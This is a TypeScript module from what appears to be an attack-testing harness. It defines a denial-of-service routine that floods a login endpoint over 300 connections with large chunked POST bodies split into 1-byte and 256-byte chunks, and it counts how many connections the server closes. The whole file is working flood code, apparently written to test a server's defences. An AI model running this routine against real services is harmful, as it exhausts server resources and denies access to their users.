import { defineAttack } from './attack.ts';
import { openConnection, rawRequest } from './raw-connection.ts';

const CONNECTIONS = 300;
/** Bytes of a request. */
const LENGTH = 1_500_000;
/** Sizes of chunks: the smallest one, and the smallest one that is allowed. */
const SIZES = [1, 256];
const PIECE = 64 * 1024;

/** Sends bodies in chunks that cost more time than their bytes. */
export const tinyChunks = defineAttack({
  summary: '300 anonymous connections send bodies in very small chunks',
  async run(target) {
    const { signal } = target;
    const headers = { 'content-type': 'application/json', 'transfer-encoding': 'chunked' };
    const head = rawRequest('/api/users/login', headers, 'POST');
    const bodies = SIZES.map(chunked);
    let closed = 0;

    async function attackFromOneConnection(body: Buffer): Promise<void> {
      while (!signal.aborted) {
        const socket = openConnection(target).resume();
        const closing = new Promise((resolve) => socket.once('close', resolve));
        socket.write(head);
        for (let i = 0; i < body.length && !socket.destroyed; i += PIECE) {
          if (socket.write(body.subarray(i, i + PIECE))) continue;
          const drained = new Promise((resolve) => socket.once('drain', resolve));
          await Promise.race([drained, closing]);
        }
        await closing;
        closed += signal.aborted ? 0 : 1;
      }
    }

    const perSize = CONNECTIONS / SIZES.length;
    await Promise.all(
      bodies.flatMap((body) =>
        Array.from({ length: perSize }, () => attackFromOneConnection(body)),
      ),
    );
    return { closed };
  },
});

function chunked(size: number): Buffer {
  const chunk = `${size.toString(16)}\r\n${'a'.repeat(size)}\r\n`;
  return Buffer.from(chunk.repeat(LENGTH / chunk.length));
}
